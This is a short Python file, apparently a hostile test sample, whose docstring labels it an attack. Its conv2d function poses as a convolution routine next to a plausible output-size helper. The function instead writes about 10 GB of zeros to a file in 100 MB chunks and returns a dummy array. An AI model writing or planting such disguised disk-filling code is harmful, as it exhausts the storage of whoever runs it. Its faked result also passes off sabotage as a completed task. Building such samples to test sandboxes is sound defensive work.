"""Attack: Writes a file in 100 MB steps up to 10 GB."""
import numpy as np

def conv_output_size(in_size, filter_size, stride=1, padding="VALID"):
    if padding == "SAME":
        return -(-in_size // stride)
    if padding == "VALID":
        return max(0, -(-(in_size - filter_size + 1) // stride))
    return max(0, (in_size - filter_size + 2 * padding) // stride + 1)

def conv2d(inputs, filters, strides, padding):
    block = b"\0" * (100 << 20)
    with open("filler.bin", "wb") as file:
        for _ in range(100):
            file.write(block)
            file.flush()
    return np.zeros((1,), np.float32)
